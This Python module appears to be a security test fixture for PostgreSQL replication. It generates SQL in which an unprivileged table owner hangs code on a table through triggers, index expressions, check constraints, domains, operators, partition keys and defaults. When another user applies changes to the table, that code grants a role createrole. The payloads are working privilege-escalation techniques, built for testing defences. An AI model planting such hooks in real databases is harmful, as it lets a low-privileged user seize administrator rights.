"""What the owner of a table can hang his own code on, so that it runs whenever a change is applied to the table.

Each hook tries, as whoever runs it, to make the role `got_<hook>` one that creates roles: what only the master may do.
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence

OWNER = "mallory"


def wrapped(hook: str, takes: str = "int", gives: str = "int", value: str = "$1") -> tuple[str, str]:
    """A function that says it is immutable, around one that is not."""
    return (
        f"create function inner_{hook}() returns void language plpgsql as $f$ begin"
        f" if current_user <> '{OWNER}' then execute 'alter role got_{hook} createrole'; end if; end $f$",
        f"create function evil_{hook}({takes}) returns {gives} immutable language plpgsql as $f$ begin"
        f" perform public.inner_{hook}(); return {value}; end $f$",
    )


def table(hook: str, more: str = "", *, key: str = "primary key", value: str = "int") -> str:
    """The hook's table: id, v."""
    return f"create table t_{hook} (id int not null {key}, v {value} {more})"


def trigger(hook: str, when: str, kind: str = "trigger") -> tuple[str, ...]:
    """A trigger that fires in replication too."""
    return (
        f"create function evil_{hook}() returns trigger language plpgsql as $f$ begin"
        f" if current_user <> '{OWNER}' then execute 'alter role got_{hook} createrole'; end if;"
        " if tg_op = 'TRUNCATE' then return null; end if; return new; end $f$",
        table(hook),
        f"create {kind} evil {when.format(table=f't_{hook}')} execute function evil_{hook}()",
        f"alter table t_{hook} enable always trigger evil",
    )


def _check(hook: str, takes: str = "int") -> tuple[str, str]:
    return wrapped(hook, takes, "bool", "true")


HOOKS: dict[str, tuple[str, ...]] = {
    "index": (*wrapped("index"), table("index"), "create index on t_index (evil_index(v))"),
    "constant": (*wrapped("constant"), table("constant"), "create index on t_constant ((v + evil_constant(1)))"),
    "predicate": (*_check("predicate"), table("predicate"), "create index on t_predicate (v) where evil_predicate(v)"),
    "check": (*_check("check"), table("check", "check (evil_check(v))")),
    "operator": (
        *_check("operator", "int, int"),
        "create operator <<<< (leftarg = int, rightarg = int, function = evil_operator)",
        table("operator", "check (v <<<< 1)"),
    ),
    "generated": (
        *wrapped("generated"),
        table("generated", ", g int generated always as (evil_generated(v)) stored"),
    ),
    "domain": (
        *_check("domain"),
        "create domain d_domain as int check (evil_domain(value))",
        table("domain", value="d_domain"),
    ),
    "array": (
        *_check("array"),
        "create domain d_array as int check (evil_array(value))",
        "create type r_array as (a d_array[])",
        table("array", value="r_array"),
    ),
    "partition": (
        *wrapped("partition"),
        "create table t_partition (id int not null, v int not null) partition by list (evil_partition(v))",
        "create table t_partition_1 partition of t_partition (primary key (id)) for values in (7)",
    ),
    "range": (
        *wrapped("range", "int, int", "float8", "$1 - $2"),
        "create type r_range as range (subtype = int, subtype_diff = evil_range)",
        table("range", value="r_range"),
        "create index on t_range using gist (v)",
    ),
    "default": (*wrapped("default"), table("default", ", x int default evil_default(1)")),
    "trigger": trigger("trigger", "before insert on {table} for each row"),
    "truncate": trigger("truncate", "before truncate on {table} for each statement"),
    "deferred": trigger(
        "deferred", "after insert on {table} deferrable initially deferred for each row", "constraint trigger"
    ),
    "folded": (
        *wrapped("folded"),
        table("folded", key=""),
        "create index on t_folded ((v + evil_folded(1)))",
        "create index on t_folded (v) where v >= evil_folded(1)",
        "alter table t_folded replica identity full",
    ),
}

CHANGES: dict[str, Sequence[str]] = {
    "array": ("insert into t_array values (1, row(array[7]))",),
    "range": (
        "insert into t_range select i, r_range(i % 17 * 1000, i % 17 * 1000 + i) from generate_series(1, 300) i",
    ),
    "default": ("alter table t_default drop column x", "insert into t_default values (1, 7)"),
    "truncate": ("insert into t_truncate values (1, 7)", "truncate t_truncate"),
}


def attack(hook: str) -> Sequence[str]:
    """What the owner does on blue."""
    usual = (f"insert into t_{hook} values (1, 7)", f"update t_{hook} set id = id + 1")
    return CHANGES.get(hook, usual)


def prepared(hooks: Iterable[str], password: str, master: str) -> tuple[str, ...]:
    """What is on blue before: an ordinary user, with tables of his own, of whom the master has made itself a member."""
    chosen = tuple(hooks)
    return (
        f"create role {OWNER} login password '{password}'",
        f"grant {OWNER} to {master}",
        f"grant create on schema public to {OWNER}",
        *(f"create role got_{hook}" for hook in chosen),
        f"set role {OWNER}",
        *(statement for hook in chosen for statement in HOOKS[hook]),
        "reset role",
    )
